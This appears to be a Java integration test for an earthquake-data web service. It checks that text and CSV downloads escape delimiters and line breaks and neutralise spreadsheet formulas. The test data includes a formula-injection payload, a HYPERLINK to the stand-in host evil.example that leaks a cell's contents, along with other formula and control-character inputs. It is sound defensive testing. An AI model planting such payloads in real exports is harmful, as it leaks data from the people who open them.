package dev.celestial.fdsn;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

import dev.celestial.support.CleanEventTables;
import dev.celestial.support.IntegrationTest;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.test.web.reactive.server.WebTestClient;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/** Text one client ingested cannot forge columns, rows or spreadsheet formulas in another's text or CSV download. */
@IntegrationTest
@CleanEventTables
class FdsnEscapingIntegrationTests {

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")";
    static final int CSV_COLUMNS = 22;
    /** CSV columns that hold stored text: magType, net, id, place, type, status, locationSource, magSource. */
    static final int[] CSV_TEXT = {5, 10, 11, 13, 14, 19, 20, 21};

    @Autowired
    WebTestClient web;

    @Autowired
    JsonMapper json;

    /** Hostile events in USGS GeoJSON, whose extras (type, nst, ...) take any JSON a client sends. */
    String ingestHostile() {
        ArrayNode features = JsonNodeFactory.instance.arrayNode();
        ObjectNode h1 = feature("h1", "Ridge | \"North\", 5 km\nE of\r\nTown", "a|b,c", "m\"w", "re\rviewed", "earth|quake", "12,3");
        ((ObjectNode) h1.get("properties")).put("gap", -5).put("dmin", -0.25);
        features.add(h1);
        features.add(feature("h2", FORMULA, "+1", "-mw", "@SUM(A1)", "=1+1", "-2+3"));
        features.add(feature("-3", "\tcmd", "@x", "=m", "\rx", "+t", "@n"));
        ObjectNode collection = JsonNodeFactory.instance.objectNode().put("type", "FeatureCollection");
        collection.set("features", features);
        return web.post().uri("/api/v1/earthquakes?format=usgs-geojson").contentType(MediaType.APPLICATION_JSON)
                .bodyValue(json.writeValueAsBytes(collection)).exchange().expectStatus().isOk()
                .returnResult(String.class).getResponseHeaders().getFirst("Consistency-Token");
    }

    static ObjectNode feature(String id, String place, String net, String magType, String status, String type, String nst) {
        ObjectNode feature = JsonNodeFactory.instance.objectNode().put("type", "Feature").put("id", id);
        feature.putObject("properties").put("mag", -0.5).put("time", 1_700_000_000_000L).put("place", place).put("net", net)
                .put("magType", magType).put("status", status).put("type", type).put("nst", nst);
        feature.putObject("geometry").put("type", "Point").putArray("coordinates").add(-70.25).add(-12.5).add(-1.5);
        return feature;
    }

    String get(String uri, String token) {
        return web.get().uri(uri).header("Consistency-Token", token).exchange().expectStatus().isOk()
                .expectBody(String.class).returnResult().getResponseBody();
    }

    @Test
    void textFieldsKeepTheirColumnsAndRowsWithPipesAndLineBreaksReplaced() {
        String text = get("/fdsnws/event/1/query?format=text", ingestHostile());
        assertThat(text).doesNotContain("\r");
        String[] lines = text.split("\n", -1);
        assertThat(lines).hasSize(1 + 3 + 1);
        assertThat(lines[4]).isEmpty();
        Map<String, String[]> byId = new HashMap<>();
        for (int i = 1; i <= 3; i++) {
            String[] columns = lines[i].split("\\|", -1);
            assertThat(columns).as(lines[i]).hasSize(14);
            byId.put(columns[0], columns);
        }
        assertThat(byId.keySet()).containsExactlyInAnyOrder("h1", "h2", "-3");
        String[] h1 = byId.get("h1");
        assertThat(h1[12]).isEqualTo("Ridge / \"North\", 5 km E of  Town");
        assertThat(h1[5]).isEqualTo("a/b,c");
        assertThat(h1[9]).isEqualTo("m\"w");
        // numbers stay numbers, negative ones included
        assertThat(List.of(h1[2], h1[3], h1[4], h1[10])).containsExactly("-12.5", "-70.25", "-1.5", "-0.5");
        assertThat(byId.get("h2")[12]).isEqualTo(FORMULA);
        assertThat(byId.get("-3")[12]).isEqualTo(" cmd");
    }

    @Test
    void csvIsRfc4180WithTextCellsThatNeverStartAFormula() {
        List<List<String>> records = parseCsv(get("/fdsnws/event/1/query?format=csv", ingestHostile()));
        assertThat(records).hasSize(1 + 3);
        Map<String, List<String>> byId = new HashMap<>();
        for (List<String> record : records) {
            assertThat(record).as(record.toString()).hasSize(CSV_COLUMNS);
            byId.put(record.get(11), record);
        }
        for (List<String> record : records.subList(1, records.size())) {
            for (int column : CSV_TEXT) {
                assertThat(record.get(column)).as("column %d of %s", column, record).doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            }
            // numbers stay numbers, negative ones included
            assertThat(List.of(record.get(1), record.get(2), record.get(3), record.get(4))).containsExactly("-12.5", "-70.25", "-1.5", "-0.5");
        }
        List<String> h1 = byId.get("h1");
        assertThat(List.of(h1.get(13), h1.get(10), h1.get(5), h1.get(19), h1.get(14), h1.get(6)))
                .containsExactly("Ridge | \"North\", 5 km\nE of\r\nTown", "a|b,c", "m\"w", "re\rviewed", "earth|quake", "12,3");
        assertThat(List.of(h1.get(7), h1.get(8))).containsExactly("-5", "-0.25");
        // the formulas come back as text: the same characters behind one quote
        List<String> h2 = byId.get("h2");
        assertThat(List.of(h2.get(13), h2.get(10), h2.get(5), h2.get(19), h2.get(14), h2.get(6)))
                .containsExactly("'" + FORMULA, "'+1", "'-mw", "'@SUM(A1)", "'=1+1", "'-2+3");
        List<String> h3 = byId.get("'-3");
        assertThat(h3).as("an id starting with - is text too").isNotNull();
        assertThat(List.of(h3.get(13), h3.get(10), h3.get(5), h3.get(19), h3.get(14), h3.get(6)))
                .containsExactly("'\tcmd", "'@x", "'=m", "'\rx", "'+t", "'@n");
    }

    /** A strict RFC 4180 reader (LF or CRLF ends a record): a stray quote or a bare CR outside quotes fails. */
    static List<List<String>> parseCsv(String text) {
        List<List<String>> records = new ArrayList<>();
        List<String> record = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        boolean closed = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted) {
                if (c != '"') {
                    cell.append(c);
                } else if (i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else {
                    quoted = false;
                    closed = true;
                }
            } else if (c == ',' || c == '\n' || c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
                record.add(cell.toString());
                cell.setLength(0);
                closed = false;
                if (c != ',') {
                    i += c == '\r' ? 1 : 0;
                    records.add(record);
                    record = new ArrayList<>();
                }
            } else if (closed || c == '\r' || c == '"' && cell.length() > 0) {
                fail("not RFC 4180 at character %d: %s", i, text.substring(Math.max(0, i - 40), Math.min(text.length(), i + 40)));
            } else if (c == '"') {
                quoted = true;
            } else {
                cell.append(c);
            }
        }
        assertThat(quoted).as("unterminated quote").isFalse();
        assertThat(cell.length() == 0 && record.isEmpty()).as("the last record ends with a line break").isTrue();
        return records;
    }
}
